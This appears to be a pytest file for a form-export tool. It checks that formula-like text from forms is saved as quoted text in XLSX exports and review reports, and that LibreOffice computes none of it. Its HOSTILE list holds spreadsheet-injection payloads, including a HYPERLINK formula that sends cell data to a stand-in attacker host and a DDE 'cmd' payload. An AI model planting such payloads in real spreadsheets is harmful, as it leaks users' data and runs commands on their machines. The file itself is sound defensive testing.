"""Text from forms never becomes a live spreadsheet formula, in the export and in the review report."""
from __future__ import annotations

import re
from collections import Counter
import shutil
import subprocess
import zipfile
from pathlib import Path

import openpyxl
import pytest

from assistant.exporters.xlsx_writer import formula_like, to_xlsx
from assistant.model import Declaration, Indicator
from assistant.review.report_xlsx import XlsxReport
from assistant.review.summary import BatchSummary

HOSTILE = ['=HYPERLINK("http://evil.example/?x="&A1,"点我")', "+1+1", "-2+3", "@SUM(1,1)", "\t=1+1", "\r=1+1",
           "=cmd|' /C calc'!A0"]


def hostile_form() -> Declaration:
    return Declaration(project_name=HOSTILE[0], unit=HOSTILE[1], department=HOSTILE[2], overview=HOSTILE[3],
                       basis=HOSTILE[4], necessity=HOSTILE[6],
                       indicators=[Indicator(scope="annual", level1="产出指标", level2="数量指标", name="结余", value="-5"),
                                   Indicator(scope="annual", level1="产出指标", level2="质量指标", name="@合格率",
                                             value="=100%")])


def hostile_report(path: Path) -> None:
    rep = XlsxReport(path)
    s = BatchSummary(total=2)
    for k, text in enumerate(HOSTILE[:4]):
        rec = {"file": f"{text}.docx", "form": {"project_name": text, "unit": HOSTILE[5], "department": text},
               "findings": [{"code": "goal_annual_missing", "severity": "error", "field": "goals.annual",
                             "message": HOSTILE[6], "suggestion": "@补充"}], "corrections": []}
        rep.add_form(rec, "中", text)
        s.add_form(rec, "中")
    rep.add_error("=1+1.pdf", "-文件已加密")
    s.add_error()
    rep.close(s)


def sheet_xml(path: Path) -> dict[str, str]:
    with zipfile.ZipFile(path) as z:
        return {n: z.read(n).decode("utf-8") for n in z.namelist() if n.startswith("xl/worksheets/sheet")}


@pytest.mark.parametrize("text, expected", [
    ("=1", True), ("+1", True), ("-1", True), ("@a", True), ("\t=1", True), ("\r=1", True),
    ("1-2", False), ("项目=1", False), (" =1", False), ("", False), ("＝1", False),
])
def test_formula_like(text, expected):
    assert formula_like(text) is expected


def text_cells(wb):
    for ws in wb.worksheets:
        for row in ws.iter_rows():
            for c in row:
                if isinstance(c.value, str) and formula_like(c.value):
                    yield c


def test_export_writes_formula_like_text_as_quoted_text_and_numbers_as_numbers(tmp_path):
    out = tmp_path / "f.xlsx"
    out.write_bytes(to_xlsx(hostile_form()))
    assert not any("<f>" in x or "<f " in x for x in sheet_xml(out).values())
    wb = openpyxl.load_workbook(out)
    cells = list(text_cells(wb))
    assert {c.value for c in cells} >= set(HOSTILE[:4]) | {HOSTILE[6], "=100%", "@合格率"}
    assert all(c.data_type == "s" and c.quotePrefix for c in cells)
    numbers = [c for row in wb.active.iter_rows() for c in row if c.value == -5]
    assert len(numbers) == 1 and numbers[0].data_type == "n" and not numbers[0].quotePrefix


def test_review_report_writes_formula_like_text_as_quoted_text(tmp_path):
    out = tmp_path / "r.xlsx"
    hostile_report(out)
    xml = sheet_xml(out)
    assert not any(re.search(r"<f[ >]", x) for x in xml.values())
    wb = openpyxl.load_workbook(out)
    cells = list(text_cells(wb))
    assert {c.value for c in cells} >= set(HOSTILE[:4]) | {HOSTILE[6], "@补充", "=1+1.pdf", "-文件已加密"}
    sheets = {c.parent.title for c in cells}
    assert sheets == {"汇总", "问题清单", "审核意见", "无法读取"}        # the openpyxl sheet and the spliced ones
    assert all(c.data_type == "s" and c.quotePrefix for c in cells)
    counts = [c for c in wb["审核意见"]["G"][1:]]
    assert [c.value for c in counts] == [1, 1, 1, 1] and all(c.data_type == "n" for c in counts)


@pytest.mark.skipif(shutil.which("soffice") is None, reason="LibreOffice 未安装（apt-get install libreoffice-calc-nogui）")
def test_libreoffice_evaluates_none_of_them(tmp_path):
    export, report = tmp_path / "export.xlsx", tmp_path / "report.xlsx"
    export.write_bytes(to_xlsx(hostile_form()))
    hostile_report(report)
    conv = tmp_path / "lo"
    subprocess.run(["soffice", "--headless", f"-env:UserInstallation=file://{tmp_path}/profile",
                    "--convert-to", "xlsx", "--outdir", str(conv), str(export), str(report)],
                   check=True, capture_output=True, timeout=240)
    for path in (export, report):
        def hostile_texts(p, **kw):
            return Counter(c.value for ws in openpyxl.load_workbook(p, **kw).worksheets for row in ws.iter_rows()
                           for c in row if isinstance(c.value, str) and formula_like(c.value))
        before, after = hostile_texts(path), hostile_texts(conv / path.name, data_only=True)
        assert before and after == before, path.name         # every one shown as written, none computed
    exported = openpyxl.load_workbook(conv / "export.xlsx", data_only=True).active
    assert -5 in {c.value for row in exported.iter_rows() for c in row}
